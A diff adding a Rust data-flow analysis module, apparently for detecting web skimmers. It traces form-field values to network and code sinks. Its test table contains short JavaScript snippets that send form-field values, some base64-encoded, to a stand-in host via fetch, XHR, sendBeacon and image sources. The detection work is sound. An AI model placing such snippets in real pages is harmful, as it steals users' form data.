@@ -1,0 +1,140 @@
+//! Where values come from, what is done to them, and where they go.
+//!
+//! A flow-insensitive analysis of the normalised stream, so that it sees through encoded names and works where nothing
+//! parses: every variable, property and expression is a [node](graph), every assignment, argument and return an edge, and
+//! [marks](Mark) such as "value of a form field" or "absolute address" spread along the edges to [sinks](Sink). Nothing is
+//! executed and no order of statements is assumed, so a flow says what may happen. Work and memory are linear in the items:
+//! a node has 32 marks and passes each on once.
+
+mod graph;
+mod marks;
+mod walk;
+
+pub(crate) use marks::{Mark, Marks, Sink};
+
+use crate::features::Vocabulary;
+use crate::signals::Fact;
+use crate::stream::{Stream, functions};
+
+/// What reaches one sink.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub(crate) struct Flow {
+    pub(crate) sink: Sink,
+    pub(crate) marks: Marks,
+    /// The item where data enters that reaches the sink; the sink's own where none does.
+    pub(crate) from: u32,
+    /// The item of the sink.
+    pub(crate) at: u32,
+}
+
+/// The flows of a script, in the order of their sinks. `facts` are the stream's, in its order.
+pub(crate) fn flows(stream: &Stream<'_>, facts: &[Fact], vocabulary: &Vocabulary) -> Vec<Flow> {
+    let functions = functions::find(stream.items());
+    let (graph, sinks) = walk::walk(stream, facts, vocabulary, &functions);
+    let reached = graph.spread();
+    let mut flows: Vec<Flow> = sinks
+        .into_iter()
+        .map(|(sink, node, at)| {
+            let (marks, from) = reached.of(node);
+            Flow { sink, marks, from: from.unwrap_or(at), at }
+        })
+        .filter(|flow| !flow.marks.is_empty())
+        .collect();
+    flows.sort_by_key(|flow| flow.at);
+    flows
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::signals::Recogniser;
+    use crate::stream::normalise;
+
+    /// Each flow as `mark+mark>sink`.
+    fn read(source: &str) -> Vec<String> {
+        let (stream, _) = normalise(source, |_| {});
+        let facts = Recogniser::new().facts(&stream);
+        let flows = flows(&stream, &facts, &Vocabulary::new());
+        let name = |flow: &Flow| {
+            let marks: Vec<String> = flow.marks.iter().map(|mark| format!("{mark:?}")).collect();
+            format!("{}>{:?}", marks.join("+"), flow.sink)
+        };
+        flows.iter().map(name).collect()
+    }
+
+    #[test]
+    fn values_are_followed_to_where_they_go() {
+        let table = [
+            ("straight", "fetch('//c.example/'+a.value)", "Field+Address>Request"),
+            ("by a variable", "var v=a.value;v='x'+v;new Image().src=v", "Field>Fetched"),
+            ("before it is assigned", "function s(){b.src=v}v=a.value", "Field>Fetched"),
+            ("by a property", "this.q={};this.q.k=a.value;navigator.sendBeacon(u,this.q)", "Field>Beacon"),
+            (
+                "by an argument",
+                "function send(d){navigator.sendBeacon(u,d)}send(btoa(a.value))",
+                "Field+Base64>Beacon",
+            ),
+            (
+                "by an object that is handed over",
+                "function fill(o){o.k=a.value}var d={};fill(d);i.src=d.k",
+                "Field>Fetched",
+            ),
+            (
+                "not to other objects",
+                "function fill(o){return o.k}var d={},e=a.value;fill(e);fill(d);i.src=d",
+                "",
+            ),
+            (
+                "by a form",
+                "new Ajax.Request('//c.example',{parameters:Form.serialize(q)})",
+                "Field+Address>Request",
+            ),
+            ("by a return value", "function get(){return a.value}location=get()", "Field>Navigation"),
+            ("by a function in a variable", "var f=(d)=>{i.src=d};f(a.value)", "Field>Fetched"),
+            ("by a method", "var o={f:function(d){i.src=d}};o.f(a.value)", "Field>Fetched"),
+            ("by a called function expression", "(function(d){i.src=d})(a.value)", "Field>Fetched"),
+            ("by a list", "var l=[];l.push(a.value);eval(l.join(''))", "Field>Code"),
+            ("added to", "var v='';v+=a.value+'&';i.src=v", "Field>Fetched"),
+            (
+                "added to a property in a condition",
+                "var o={s:null,c:function(){for(var i=0;i<q.length;i++){if(q[i].value.length>0){o.s+=q[i].name+'='+q[i].value+'&'}}},d:function(){var e=btoa(o.s);x.send(e)}}",
+                "Field+Base64>Request",
+            ),
+            ("by a loop", "for(var k of l){i.src=k}l=[a.value]", "Field>Fetched"),
+            ("by a callback", "[a.value].forEach(function(e){i.src=e})", "Field>Fetched"),
+            (
+                "by a request",
+                "var x=new XMLHttpRequest;x.open('POST','//c.example');x.send(a.value)",
+                "Field+Address>Request",
+            ),
+            ("an attribute", "i.setAttribute('src',a.value)", "Field>Fetched"),
+            (
+                "element and address",
+                "var s=document.createElement('script');s.src='//c.example/a.js'",
+                "Address+ScriptElement>Fetched",
+            ),
+            ("without semicolons", "var v = 1\nw = a.value\ni.src = v", ""),
+            ("other variable", "var v=a.value;i.src=w", ""),
+            ("other function's variable", "function f(){var v=a.value}function g(v){i.src=v}", ""),
+            ("compared", "if(a.value=='x'){i.src=b}", ""),
+            ("written", "a.value=b;i.src=a", ""),
+            ("relative address", "i.src='/logo.png'", ""),
+        ];
+        let failed: Vec<String> = table
+            .iter()
+            .map(|(name, source, want)| (name, read(source).join(" "), want))
+            .filter(|(_, got, want)| got != *want)
+            .map(|(name, got, want)| format!("{name}: {got} for {want}"))
+            .collect();
+        assert!(failed.is_empty(), "{}", failed.join("\n"));
+    }
+
+    #[test]
+    fn unbalanced_text_is_walked_to_its_end() {
+        for source in
+            [")]}".repeat(500), "(a=[{b:".repeat(500), "f(function(a){".repeat(500), "a=>b=>".repeat(5_000)]
+        {
+            read(&format!("{source};i.src=a.value"));
+        }
+    }
+}
